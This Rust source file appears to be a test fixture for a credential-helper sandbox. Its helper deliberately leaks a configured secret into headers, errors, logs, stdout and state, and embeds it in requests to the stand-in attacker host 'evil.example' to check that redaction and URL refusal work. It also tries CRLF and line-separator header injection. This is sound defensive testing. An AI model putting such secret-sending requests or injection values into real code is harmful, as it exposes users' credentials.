//! Puts the secret it is given (config or environment `API_TOKEN`) into
//! one place a helper controls, chosen by config `MODE`, in mixed case:
//! header names (with each validation failure that quotes a name), header
//! values, the token, error messages of each kind, log lines, a panic
//! message, a refused URL's host, path or user info, and stdout cut at
//! the 64 KiB capture boundary. `MODE=hdr` returns the framing or hop-by-hop
//! header of index `HEADER` in its list (value `v`).
//!
//! `MODE=spill` puts it everywhere at once but in the credential, and
//! succeeds: on stdout and stderr, in a log line of each level, in a
//! message to the user, as the name of a key, as the name and the value
//! of state, and in a refused URL; then it answers [`clean`], every part
//! of which says `clean`.

use std::io::Write;

use credbox_guest::http::Client;
use credbox_guest::keys::{self, Algorithm};
use credbox_guest::{Credential, Error, Helper, Request, config_required, log, state, user};

struct LeakEverywhere;

/// `s` with every other ASCII letter's case flipped.
fn mixed(s: &str) -> String {
    s.chars()
        .enumerate()
        .map(|(i, c)| match i % 2 {
            0 => c.to_ascii_uppercase(),
            _ => c.to_ascii_lowercase(),
        })
        .collect()
}

impl Helper for LeakEverywhere {
    fn fetch(_request: Request) -> Result<Credential, Error> {
        let secret = config_required("API_TOKEN")?;
        let m = mixed(&secret);
        let message = format!("failed with {m} here");
        let with = |name: &str, value: &str| Ok(Credential::new().header(name, value));
        match config_required("MODE")?.as_str() {
            "name-empty" => with(&m, ""),
            "name-long" => with(&m, &"v".repeat(9000)),
            "name-crlf" => with(&m, "a\r\nb"),
            "name-token" => with(&format!("{m} x"), "v"),
            "name-twice" => Ok(Credential::new().header(&m, "1").header(&secret, "2")),
            "name-hop" => with(&format!("{m}\u{2028}Host"), "v"),
            "hdr" => {
                // By index: a config value of 6 bytes or more is a secret
                // to credbox's redactor, so names are not passed in.
                const NAMES: [&str; 10] = [
                    "Host",
                    "content-length",
                    "Transfer-Encoding",
                    "Connection",
                    "Upgrade",
                    "TE",
                    "Expect",
                    "Keep-Alive",
                    "Proxy-Connection",
                    "Trailer",
                ];
                let i: usize = config_required("HEADER")?
                    .parse()
                    .map_err(|_| Error::misconfigured("HEADER is not an index"))?;
                with(NAMES[i], "v")
            }
            "value-control" => with("X-Key", &format!("{m}\u{1}")),
            "token" => Ok(Credential::token(format!("{m} {m}"))),
            "misconfigured" => Err(Error::misconfigured(message)),
            "denied" => Err(Error::denied(message)),
            "unavailable" => Err(Error::unavailable(message)),
            "other" => Err(Error::other(message)),
            "log" => {
                for line in [&m, &secret, &format!("Bearer {m}"), &message] {
                    log::warn(line);
                    log::error(line);
                }
                Err(Error::other("logged"))
            }
            "panic" => panic!("{message}"),
            "deny-host" => Client::new()
                .get(&format!("https://{m}.evil.example/"))
                .send()
                .map(|_| Credential::bearer("sent")),
            "deny-path" => Client::new()
                .get(&format!("https://evil.example/{m}?q={m}#{m}"))
                .send()
                .map(|_| Credential::bearer("sent")),
            "deny-userinfo" => Client::new()
                .get(&format!("https://{m}:{m}@evil.example/"))
                .send()
                .map(|_| Credential::bearer("sent")),
            "stdout-split" => {
                // The secret straddles the 64 KiB capture limit, or that
                // plus config `SHIFT` bytes.
                let shift: usize = credbox_guest::config("SHIFT")
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(0);
                // 49 lines of 1337 bytes, then a 50th (the last that
                // `-v` shows) holding the secret.
                let line = format!("{}\n", "f".repeat(1336));
                let pad = (64 << 10) + shift - 49 * line.len() - secret.len() / 2;
                let mut out = std::io::stdout().lock();
                let _ = out.write_all(line.repeat(49).as_bytes());
                let _ = out.write_all("g".repeat(pad).as_bytes());
                let _ = out.write_all(m.as_bytes());
                let _ = out.write_all(b"\n");
                let _ = out.flush();
                Err(Error::other("printed"))
            }
            "spill" => {
                spill(&secret, &m);
                Ok(clean())
            }
            other => Err(Error::misconfigured(format!("unknown MODE {other}"))),
        }
    }
}

/// Puts `secret`, and `m` (it in mixed case), everywhere a helper that
/// succeeds can, but in the credential. What each host call answers is
/// ignored: a refusal is the point.
fn spill(secret: &str, m: &str) {
    println!("stdout: {m}");
    eprintln!("stderr: {m}");
    let _ = std::io::stdout().flush();
    for line in [m, &format!("the secret is {secret}")] {
        log::debug(line);
        log::info(line);
        log::warn(line);
        log::error(line);
    }
    let _ = user::show(&format!("open https://example.test/?code={m}"));
    let _ = keys::info(m);
    let _ = keys::sign(m, Algorithm::HmacSha256, secret.as_bytes());
    let _ = state::set("spill", secret);
    let _ = state::get("spill");
    let _ = state::set(m, "v");
    let _ = state::get(m);
    let _ = Client::new()
        .get(&format!("https://evil.example/{m}"))
        .header("X-Spill", m)
        .send();
}

/// A valid credential with every part, none of them secret: what the
/// `spill` mode answers.
fn clean() -> Credential {
    Credential::token("clean-token-1")
        .header("X-Clean", "clean-header-1")
        .user_secret("clean-user", "clean-password-1")
        .aws("AKIDCLEANCLEAN01", "clean-aws-secret-1", None)
}

credbox_guest::export!(LeakEverywhere);
